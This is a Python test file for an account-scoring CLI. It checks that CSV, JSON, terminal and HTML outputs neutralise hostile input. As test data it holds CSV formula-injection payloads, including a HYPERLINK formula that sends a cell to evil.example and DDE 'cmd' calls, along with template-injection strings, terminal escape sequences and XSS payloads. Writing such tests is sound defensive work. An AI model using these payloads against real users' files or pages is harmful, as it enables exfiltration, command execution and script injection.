"""What reaches people is safe to open: CSV has no formulas, narratives no template tricks.

CSV output gets the OWASP treatment against formula injection in every text cell (a
leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab, carriage return, line feed and
their full-width forms), while numbers stay numbers. JSON and the table show values as
they are. Templates fill placeholders with values and never read a value as a template,
so an account name like ``{health_score}`` or ``{0.__class__}`` appears literally. The
terminal table shows control characters as escapes and never reads rich markup, and the
HTML report shows markup from the data as text.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from upsell_rules.cli.main import cli
from upsell_rules.io.formatters import FORMULA_START, csv_row, render, safe_cell

TINY_RULESET = """\
name: tiny
version: 1
signals:
  health_score: {type: number, required: true}  # a bad value fails the record here
  plan: {type: string}
scoring:
  categories:
    product:
      weight: 1
      tiers:
        - {id: healthy, score: 10, when: health_score > 50}
bands:
  - {id: act_now, min: 50, max: 100, play: go, outreach: true}
  - {id: wait, min: 0, max: 50, play: hold}
triggers:
  - id: always
    upsell_type: seat
    when: health_score is present
    play: go
    evidence: "{account_name} on {plan} at {health_score}"
plays:
  go:
    title: Go
    window: "now, for {account_name}"
    message: "Call {account_name} ({owner}) about {plan}."
  hold: {title: Hold, window: later}
"""

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_text_that_starts_like_a_formula_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Harborview Dental", "", "a=b", "1+1", "'quoted", " =1", 42, -5.5, 0, None, True]
)
def test_everything_else_is_left_alone(value: Any) -> None:
    assert safe_cell(value) == value


def _accounts_csv(tmp_path: Path, rows: list[dict[str, str]]) -> Path:
    path = tmp_path / "accounts.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def _dry(tmp_path: Path, data: Path, *args: str) -> Any:
    ruleset = tmp_path / "tiny.yaml"
    ruleset.write_text(TINY_RULESET, encoding="utf-8")
    return CliRunner().invoke(
        cli, ["dry-run", str(ruleset), "--data", str(data), "--as-of", "2026-11-02", *args]
    )


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    rows = [
        {"account_id": f"A{index}", "account_name": text, "owner": text, "plan": text,
         "health_score": "90"}
        for index, text in enumerate(HOSTILE_CELLS)
    ]
    rows.append({"account_id": "=1+1", "account_name": "ok", "owner": "", "plan": "Team",
                 "health_score": "=2+2"})
    return _accounts_csv(tmp_path, rows)


def test_csv_output_has_no_cell_a_spreadsheet_would_run(
    tmp_path: Path, hostile_data: Path
) -> None:
    result = _dry(tmp_path, hostile_data, "--format", "csv", "--errors", "include")
    assert result.exit_code == 1, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(HOSTILE_CELLS) + 1
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
    # The CSV source strips the white space around cells, so "\t=1+1" arrives as "=1+1".
    names = [row["account_name"] for row in rows[:-1]]
    assert names == ["'" + text.strip() for text in HOSTILE_CELLS]
    # The failed record's id and bad value come from the data too.
    assert rows[-1]["account_id"] == "'=1+1"
    assert rows[-1]["error_value"] == "'=2+2"
    assert rows[0]["score"] == "100"


def test_json_and_table_keep_the_values_as_they_are(tmp_path: Path, hostile_data: Path) -> None:
    result = _dry(tmp_path, hostile_data, "--format", "jsonl")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["account_name"] for r in records] == [t.strip() for t in HOSTILE_CELLS]
    assert [r["owner"] for r in records] == [t.strip() for t in HOSTILE_CELLS]
    table = _dry(tmp_path, hostile_data, "--format", "table").stdout
    assert "=cmd|' /C calc'!A0" in table
    assert "'=cmd" not in table


def test_negative_numbers_in_numeric_columns_stay_numbers(
    tmp_path: Path, hostile_data: Path
) -> None:
    record = json.loads(_dry(tmp_path, hostile_data, "--format", "jsonl").stdout.splitlines()[0])
    record.update(score=-12.5, raw_score=-12.5, capped_at=-3, category_scores={"product": -4.0})
    row = csv_row(record)
    assert (row["score"], row["raw_score"], row["capped_at"], row["product"]) == (
        -12.5, -12.5, -3, -4,
    )
    lines = render([record], "csv").splitlines()
    cells = dict(zip(lines[0].split(","), next(csv.reader([lines[1]])), strict=True))
    assert (cells["score"], cells["capped_at"], cells["product"]) == ("-12.5", "-3", "-4")


@pytest.mark.parametrize(
    "name", ["{health_score}", "{0.__class__}", "{owner}", "[{plan}]", "{account_name:pct}"]
)
def test_values_that_look_like_templates_appear_literally(tmp_path: Path, name: str) -> None:
    data = _accounts_csv(
        tmp_path,
        [{"account_id": "A1", "account_name": name, "owner": "{plan}", "plan": "{0}",
          "health_score": "90"}],
    )
    result = _dry(tmp_path, data, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    record = json.loads(result.stdout)
    assert record["narrative"].endswith(f"Call {name} ({{plan}}) about {{0}}.")
    assert record["triggers"][0]["evidence"] == f"{name} on {{0}} at 90"
    assert record["action"]["window"] == f"now, for {name}"


# --- terminals ---------------------------------------------------------------------

TERMINAL_TRICKS = "\x1b]0;owned\x07\x1b[2J[bold red]x[/] [link=http://evil.example]y[/link]\u202e"


def test_the_table_shows_control_characters_as_escapes(tmp_path: Path) -> None:
    data = _accounts_csv(
        tmp_path, [{"account_id": "A1", "account_name": TERMINAL_TRICKS, "owner": "",
                    "plan": "Team", "health_score": "90"}]
    )
    table = _dry(tmp_path, data, "--format", "table").stdout
    assert "\x1b" not in table and "\u202e" not in table
    assert "\\x1b]0;owned\\x07\\x1b[2J[bold red]x[/]" in table
    record = json.loads(_dry(tmp_path, data, "--format", "jsonl").stdout)
    assert record["account_name"] == TERMINAL_TRICKS  # JSON stays faithful


def test_the_terminal_table_does_not_read_markup_from_data(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from upsell_rules.cli.dry_run import _rich_table

    monkeypatch.setenv("COLUMNS", "400")  # one line per row, nothing wrapped

    data = _accounts_csv(
        tmp_path, [{"account_id": "A1", "account_name": "[bold]x[/bold] [link=http://e.x]y",
                    "owner": "", "plan": "Team", "health_score": "90"}]
    )
    record = json.loads(_dry(tmp_path, data, "--format", "jsonl").stdout)
    capsys.readouterr()
    _rich_table([record])
    shown = capsys.readouterr().out
    assert "[bold]x[/bold] [link=http://e.x]y" in shown


def test_record_errors_on_stderr_show_control_characters_as_escapes(tmp_path: Path) -> None:
    data = _accounts_csv(
        tmp_path, [{"account_id": "A1", "account_name": "x", "owner": "", "plan": "Team",
                    "health_score": "\x1b[2Jabc"}]
    )
    result = _dry(tmp_path, data, "--format", "jsonl")
    assert "\x1b" not in result.stderr
    assert "health_score: '\\x1b[2Jabc' is not a number" in result.stderr


# --- the HTML report ---------------------------------------------------------------

HTML_TRICKS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><script>alert(2)</script>",
    "</title></svg><iframe src=javascript:alert(3)>",
    "<!-- x --><a href='javascript:alert(4)'>y</a>",
    "]]><svg onload=alert(5)>",
]
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2", "h3",
    "p", "section", "div", "span", "table", "thead", "tbody", "tr", "th", "td", "details",
    "summary", "footer", "svg", "g", "rect", "line", "text", "path", "polyline",
    "circle", "tspan", "ul", "li", "b", "strong", "em", "small", "br", "code",
}


class _Collector(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_the_html_report_shows_markup_from_data_as_text(tmp_path: Path) -> None:
    rows = [
        {"account_id": f"A{index}", "account_name": trick, "owner": trick, "plan": trick,
         "health_score": "90"}
        for index, trick in enumerate(HTML_TRICKS)
    ]
    data = _accounts_csv(tmp_path, rows)
    ruleset = tmp_path / "tiny.yaml"
    ruleset.write_text(TINY_RULESET, encoding="utf-8")
    page = tmp_path / "report.html"
    result = CliRunner().invoke(
        cli, ["report", str(ruleset), "--data", str(data), "--as-of", "2026-11-02",
              "-o", str(page)],
    )
    assert result.exit_code == 0, result.output
    collector = _Collector()
    collector.feed(page.read_text(encoding="utf-8"))
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert "javascript:" not in (value or "").lower(), (tag, name, value)
            assert name not in ("src", "href", "xlink:href", "srcset", "action"), (tag, name)
    text = "".join(collector.text)
    for trick in HTML_TRICKS:
        assert trick in text
